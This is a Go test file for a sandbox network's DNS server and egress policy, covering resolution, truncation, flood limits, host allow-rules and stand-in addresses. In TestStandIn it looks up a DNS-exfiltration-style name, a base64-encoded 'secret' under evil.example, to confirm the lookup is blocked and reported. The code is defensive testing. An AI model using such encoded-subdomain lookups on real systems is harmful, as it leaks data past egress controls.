package usernet

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/mayfly-run/mayfly/internal/network"
)

// ask sends a question over UDP or TCP and returns the answer.
func (w *testNetwork) ask(kind string, server netip.Addr, name string, qtype dnsmessage.Type, more ...dnsmessage.Resource,
) dnsmessage.Message {
	w.t.Helper()
	m := dnsmessage.Message{
		Header:      dnsmessage.Header{ID: 4711, RecursionDesired: true},
		Questions:   []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: qtype, Class: dnsmessage.ClassINET}},
		Additionals: more,
	}
	query, err := m.Pack()
	if err != nil {
		w.t.Fatal(err)
	}
	conn := w.mustDial(kind, net.JoinHostPort(server.String(), "53"))
	_ = conn.SetDeadline(time.Now().Add(patience))
	if kind == "tcp" {
		query = append(binary.BigEndian.AppendUint16(nil, uint16(len(query))), query...)
	}
	if _, err := conn.Write(query); err != nil {
		w.t.Fatal(err)
	}
	raw, err := readMessage(conn, kind)
	if err != nil {
		w.t.Fatal(err)
	}
	var answer dnsmessage.Message
	if err := answer.Unpack(raw); err != nil {
		w.t.Fatal(err)
	}
	if answer.ID != 4711 || !answer.Response || len(answer.Questions) != 1 || answer.Questions[0] != m.Questions[0] {
		w.t.Fatalf("got %+v, which is not an answer to %+v", answer, m)
	}
	return answer
}

func show(m dnsmessage.Message) string {
	var out []string
	for _, r := range m.Answers {
		switch b := r.Body.(type) {
		case *dnsmessage.AResource:
			out = append(out, netip.AddrFrom4(b.A).String())
		case *dnsmessage.AAAAResource:
			out = append(out, netip.AddrFrom16(b.AAAA).String())
		case *dnsmessage.TXTResource:
			out = append(out, b.TXT...)
		case *dnsmessage.CNAMEResource:
			out = append(out, b.CNAME.String())
		}
	}
	return strings.TrimPrefix(m.RCode.String(), "RCode") + " " + strings.Join(out, " ")
}

func TestDNS(t *testing.T) {
	header := func(name string, kind dnsmessage.Type) dnsmessage.ResourceHeader {
		return dnsmessage.ResourceHeader{Name: dnsmessage.MustNewName(name), Type: kind, Class: dnsmessage.ClassINET, TTL: 60}
	}
	long := make([]string, 10)
	for i := range long {
		long[i] = strings.Repeat(strconv.Itoa(i), 200)
	}
	many := make([]string, 2*maxAnswers)
	for i := range many {
		many[i] = netip.AddrFrom4([4]byte{203, 0, 113, byte(i)}).String()
	}
	resolver := &fakeResolver{
		t: t,
		hosts: map[string][]string{
			"many.example": many,
			"both.example": {"203.0.113.10", "203.0.113.20", "2001:db8::10"}, "four.example": {"203.0.113.10"},
			"gateway.example": {gateway4.String(), "198.19.0.1"},
		},
		records: map[string][]dnsmessage.Resource{
			"txt.example.":   {{Header: header("txt.example.", dnsmessage.TypeTXT), Body: &dnsmessage.TXTResource{TXT: []string{"hello"}}}},
			"alias.example.": {{Header: header("alias.example.", dnsmessage.TypeCNAME), Body: &dnsmessage.CNAMEResource{CNAME: dnsmessage.MustNewName("both.example.")}}},
			"long.example.":  {{Header: header("long.example.", dnsmessage.TypeTXT), Body: &dnsmessage.TXTResource{TXT: long}}},
		},
	}
	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: resolver})
	for _, c := range []struct {
		name string
		kind dnsmessage.Type
		want string
	}{
		{"both.example.", dnsmessage.TypeA, "Success 203.0.113.10 203.0.113.20"},
		{"BOTH.Example.", dnsmessage.TypeA, "Success 203.0.113.10 203.0.113.20"},
		{"both.example.", dnsmessage.TypeAAAA, "Success 2001:db8::10"},
		{"four.example.", dnsmessage.TypeAAAA, "Success "},
		{"missing.example.", dnsmessage.TypeA, "NameError "},
		{"txt.example.", dnsmessage.TypeTXT, "Success hello"},
		{"alias.example.", dnsmessage.TypeCNAME, "Success both.example."},
		{"missing.example.", dnsmessage.TypeTXT, "NameError "},
		{"both.example.", typeHTTPS, "Success "},
		{"gateway.example.", dnsmessage.TypeA, "Success "}, // addresses of this package have no other names
		{"host.mayfly.internal.", dnsmessage.TypeA, "Success 198.18.0.1"},
		{"host.mayfly.internal.", dnsmessage.TypeAAAA, "Success "},
		{"host.mayfly.internal.", dnsmessage.TypeTXT, "Success "},
	} {
		for _, server := range []netip.Addr{gateway4, gateway6} {
			for _, kind := range []string{"udp", "tcp"} {
				if got := show(w.ask(kind, server, c.name, c.kind)); got != c.want {
					t.Errorf("%s %s over %s to %s: got %q, want %q", c.name, c.kind, kind, server, got, c.want)
				}
			}
		}
	}
	for _, question := range resolver.questions() {
		if strings.Contains(question, "mayfly") {
			t.Errorf("%s was asked upstream", question)
		}
	}

	if m := w.ask("tcp", gateway4, "many.example.", dnsmessage.TypeA); len(m.Answers) != maxAnswers {
		t.Errorf("a name with many addresses: got %d, want %d", len(m.Answers), maxAnswers)
	}

	t.Run("truncation", func(t *testing.T) {
		if m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT); !m.Truncated || len(m.Answers) != 0 || len(m.Additionals) != 0 {
			t.Errorf("over UDP: got %+v, want a truncated answer", m)
		}
		if m := w.ask("tcp", gateway4, "long.example.", dnsmessage.TypeTXT); m.Truncated || len(m.Answers) != 1 {
			t.Errorf("over TCP: got %+v, want a complete answer", m)
		}
		opt := optRecord()
		m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT, opt)
		if m.Truncated || len(m.Answers) != 1 || len(m.Additionals) != 1 || m.Additionals[0].Header.Type != dnsmessage.TypeOPT {
			t.Errorf("with EDNS: got %+v, want a complete answer", m)
		}
		opt.Header.Class = 1000
		if m := w.ask("udp", gateway4, "long.example.", dnsmessage.TypeTXT, opt); !m.Truncated {
			t.Errorf("with EDNS of 1000 bytes: got %+v, want a truncated answer", m)
		}
	})
}

// TestDNSSideBySide asks for a slow name and then for a fast name on one socket,
// as musl and glibc ask for A and AAAA.
func TestDNSSideBySide(t *testing.T) {
	slow := &slowResolver{release: make(chan struct{})}
	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
	conn := w.mustDial("udp", net.JoinHostPort(gateway4.String(), "53"))
	for id, name := range []string{"slow.example.", "fast.example."} {
		m := dnsmessage.Message{Header: dnsmessage.Header{ID: uint16(id)}, Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
		query, _ := m.Pack()
		_, _ = conn.Write(query)
	}
	buf := make([]byte, 512)
	if _, err := conn.Read(buf); err != nil || binary.BigEndian.Uint16(buf) != 1 {
		t.Errorf("first answer: got id %d, %v, want 1 for the fast name", binary.BigEndian.Uint16(buf), err)
	}
	close(slow.release)
	if _, err := conn.Read(buf); err != nil || binary.BigEndian.Uint16(buf) != 0 {
		t.Errorf("second answer: got id %d, %v, want 0 for the slow name", binary.BigEndian.Uint16(buf), err)
	}
}

type slowResolver struct {
	release chan struct{}
	open    atomic.Int64
	most    atomic.Int64
}

func (r *slowResolver) Addresses(ctx context.Context, _, name string) ([]netip.Addr, error) {
	r.most.Store(max(r.most.Load(), r.open.Add(1)))
	defer r.open.Add(-1)
	if name != "fast.example" {
		select {
		case <-r.release:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	return []netip.Addr{netip.MustParseAddr("203.0.113.10")}, nil
}

func (r *slowResolver) Records(context.Context, dnsmessage.Question) ([]dnsmessage.Resource, dnsmessage.RCode, error) {
	return nil, dnsmessage.RCodeSuccess, nil
}

// TestDNSFlood asks many more questions than are answered concurrently.
func TestDNSFlood(t *testing.T) {
	slow := &slowResolver{release: make(chan struct{})}
	w := newNetwork(t, Config{Policy: policy(network.ModePublic), Resolver: slow})
	conn := w.mustDial("udp", net.JoinHostPort(gateway4.String(), "53"))
	for i := range 5000 {
		m := dnsmessage.Message{Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(fmt.Sprintf("n%d.example.", i)), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
		query, _ := m.Pack()
		_, _ = conn.Write(query)
	}
	eventually(t, "many lookups run concurrently", func() bool { return slow.most.Load() >= maxQuestions/2 })
	time.Sleep(100 * time.Millisecond) // more lookups may start
	if most := slow.most.Load(); most > 2*maxQuestions {
		t.Errorf("got %d concurrent lookups, want at most %d", most, maxQuestions)
	}
	w.close() // it must not wait for them
}

// TestHostRule: a rule for a name opens the name's address, but only after the
// name was looked up.
func TestHostRule(t *testing.T) {
	to := serve(t, "203.0.113.10", echoTCP)
	other := serve(t, "203.0.113.20", echoTCP)
	resolver := &fakeResolver{t: t, hosts: map[string][]string{"api.example": {"203.0.113.10"}, "a.wild.example": {"203.0.113.20"}, "wild.example": {"203.0.113.20"}}}
	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}", `{host: "*.wild.example"}`), Resolver: resolver})
	reach := func(to netip.AddrPort) error {
		conn, err := w.dial("tcp", to.String())
		if err == nil {
			conn.Close()
		}
		return err
	}
	if err := reach(to); !errors.Is(err, syscall.ECONNREFUSED) {
		t.Fatalf("before the lookup: got %v, want it refused", err)
	}
	w.ask("udp", gateway4, "api.example.", dnsmessage.TypeA)
	if err := reach(to); err != nil {
		t.Fatalf("after the lookup: %v", err)
	}
	if err := reach(other); !errors.Is(err, syscall.ECONNREFUSED) {
		t.Fatalf("another address: got %v, want it refused", err)
	}
	if got := show(w.ask("udp", gateway4, "wild.example.", dnsmessage.TypeA)); !strings.HasPrefix(got, "Success 198.19.") {
		t.Errorf("the parent of a wildcard: got %s, want a stand-in", got)
	}
	w.ask("udp", gateway4, "a.wild.example.", dnsmessage.TypeA)
	if err := reach(other); err != nil {
		t.Fatalf("a name below the wildcard: %v", err)
	}
}

// TestStandIn: a name without a rule isn't asked upstream, and the connection
// that follows is reported with its name and port.
func TestStandIn(t *testing.T) {
	resolver := &fakeResolver{t: t}
	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}"), Resolver: resolver})
	for range 2 {
		addrs, err := w.resolver().LookupNetIP(t.Context(), "ip", "exfil-c2VjcmV0.evil.example.")
		if err != nil || len(addrs) != 1 {
			t.Fatal(addrs, err)
		}
		if _, err := w.dial("tcp", netip.AddrPortFrom(addrs[0], 443).String()); !errors.Is(err, syscall.ECONNREFUSED) {
			t.Fatal(err)
		}
	}
	for _, kind := range []dnsmessage.Type{dnsmessage.TypeTXT, dnsmessage.TypeMX, dnsmessage.TypeCNAME, dnsmessage.TypePTR, dnsmessage.TypeALL} {
		if got := show(w.ask("udp", gateway4, "exfil-c2VjcmV0.evil.example.", kind)); got != "Success " {
			t.Errorf("%s: got %s, want an empty answer", kind, got)
		}
	}
	if asked := resolver.questions(); len(asked) != 0 {
		t.Errorf("asked upstream: got %q, want nothing", asked)
	}
	c := w.report("tcp", "", 443)
	if c.Allowed || c.Host != "exfil-c2vjcmv0.evil.example" || c.Suggest != `{host: "exfil-c2vjcmv0.evil.example", ports: [443]}` ||
		c.Reason != "no egress rule allows exfil-c2vjcmv0.evil.example tcp port 443" {
		t.Errorf("report %+v", c)
	}
	// One for the connection, and one for each type of question except PTR (see TestN06_Questions).
	if reports := w.settled(5); len(reports) != 5 {
		t.Errorf("got %d reports, want 5: %+v", len(reports), reports)
	}
	// An address of the range that isn't a stand-in is refused, even in mode open.
	for _, w := range []*testNetwork{w, newNetwork(t, Config{Policy: policy(network.ModeOpen)})} {
		if _, err := w.dial("tcp", "198.19.200.200:80"); !errors.Is(err, syscall.ECONNREFUSED) {
			t.Fatal(err)
		}
		if c := w.report("tcp", "", 80); c.Allowed || c.Rule != "built-in stand-in" {
			t.Errorf("report %+v", c)
		}
	}
}

// TestStandInsBounded asks for more names than there can be stand-ins.
func TestStandInsBounded(t *testing.T) {
	w := newNetwork(t, Config{Policy: policy(network.ModeList, "{host: api.example}")})
	seen := map[netip.Addr]bool{}
	for i := range maxStandIns + 100 {
		if a := w.n.names.standIn(strconv.Itoa(i)); a.IsValid() {
			seen[a] = true
		}
	}
	if len(seen) != maxStandIns {
		t.Errorf("got %d stand-ins, want %d", len(seen), maxStandIns)
	}
	for i := range maxNamedAddresses + 100 {
		w.n.names.learn("n.example", netip.AddrFrom4([4]byte{203, 1, byte(i >> 8), byte(i)}), time.Second)
	}
	if len(w.n.names.byAddr) > maxNamedAddresses {
		t.Errorf("got %d known addresses, want at most %d", len(w.n.names.byAddr), maxNamedAddresses)
	}
	many := netip.MustParseAddr("203.0.113.10")
	for i := range maxNamesOfAddress + 100 {
		w.n.names.learn(strconv.Itoa(i), many, time.Second)
	}
	if n := len(w.n.names.of(many)); n != maxNamesOfAddress {
		t.Errorf("got %d known names of an address, want %d", n, maxNamesOfAddress)
	}
	for a := range seen {
		if len(w.n.names.of(a)) != 1 {
			t.Fatalf("%s lost its name", a)
		}
	}
	if got := show(w.ask("udp", gateway4, "more.example.", dnsmessage.TypeA)); got != "Refused " {
		t.Error(got)
	}
}

// TestNamesExpire: a name that had an address long ago no longer counts.
func TestNamesExpire(t *testing.T) {
	addr := netip.MustParseAddr("203.0.113.10")
	n := newNames()
	n.learn("old.example", addr, -nameGrace)
	n.learn("new.example", addr, answerTTL)
	if got := n.of(addr); len(got) != 1 || got[0] != "new.example" {
		t.Errorf("names of the address: got %q, want only new.example", got)
	}
}

// deadlineResolver returns no answers, and checks that each question has a deadline.
type deadlineResolver struct {
	t     *testing.T
	asked int
}

func (r *deadlineResolver) Addresses(ctx context.Context, _, _ string) ([]netip.Addr, error) {
	r.asked++
	if end, ok := ctx.Deadline(); !ok || time.Until(end) > dnsTimeout {
		r.t.Errorf("the deadline: got %s, %t, want one within %s", end, ok, dnsTimeout)
	}
	return nil, nil
}

func (r *deadlineResolver) Records(ctx context.Context, _ dnsmessage.Question) ([]dnsmessage.Resource, dnsmessage.RCode, error) {
	_, err := r.Addresses(ctx, "", "")
	return nil, dnsmessage.RCodeSuccess, err
}

// TestAnswer: only a single question of class INET is asked upstream.
func TestAnswer(t *testing.T) {
	question := dnsmessage.Question{Name: dnsmessage.MustNewName("api.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}
	chaos, text := question, question
	chaos.Class, text.Type = dnsmessage.ClassCHAOS, dnsmessage.TypeTXT
	for name, c := range map[string]struct {
		header    dnsmessage.Header
		questions []dnsmessage.Question
		want      string
		asked     int
	}{
		"address":       {dnsmessage.Header{}, []dnsmessage.Question{question}, "Success ", 1},
		"text":          {dnsmessage.Header{}, []dnsmessage.Question{text}, "Success ", 1},
		"another class": {dnsmessage.Header{}, []dnsmessage.Question{chaos}, "NotImplemented ", 0},
		"an update":     {dnsmessage.Header{OpCode: 5}, []dnsmessage.Question{question}, "NotImplemented ", 0},
		"two questions": {dnsmessage.Header{}, []dnsmessage.Question{question, text}, "FormatError ", 0},
		"no question":   {dnsmessage.Header{}, nil, "FormatError ", 0},
		"an answer":     {dnsmessage.Header{Response: true}, []dnsmessage.Question{question}, "", 0},
	} {
		t.Run(name, func(t *testing.T) {
			r := &deadlineResolver{t: t}
			n := &Network{cfg: Config{Policy: policy(network.ModeOpen), Gateway4: gateway4, Gateway6: gateway6, Resolver: r}, names: newNames(), ctx: t.Context()}
			query, err := (&dnsmessage.Message{Header: c.header, Questions: c.questions}).Pack()
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			if raw := n.answer(query, true); raw != nil {
				var m dnsmessage.Message
				if err := m.Unpack(raw); err != nil {
					t.Fatal(err)
				}
				got = show(m)
			}
			if got != c.want || r.asked != c.asked {
				t.Errorf("got answer %q, asked %d times, want %q and %d", got, r.asked, c.want, c.asked)
			}
		})
	}
}

// TestDNSOverTCPBounded announces a question that is longer than any real one.
func TestDNSOverTCPBounded(t *testing.T) {
	w := newNetwork(t, Config{Policy: policy(network.ModePublic)})
	conn := w.mustDial("tcp", net.JoinHostPort(gateway4.String(), "53"))
	_, _ = conn.Write([]byte{0xff, 0xff, 0})
	_ = conn.SetReadDeadline(time.Now().Add(dnsIdle / 2)) // before the server closes an idle connection
	if _, err := conn.Read(make([]byte, 1)); err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
		t.Errorf("the server waits for 64 KiB of question: %v", err)
	}
}
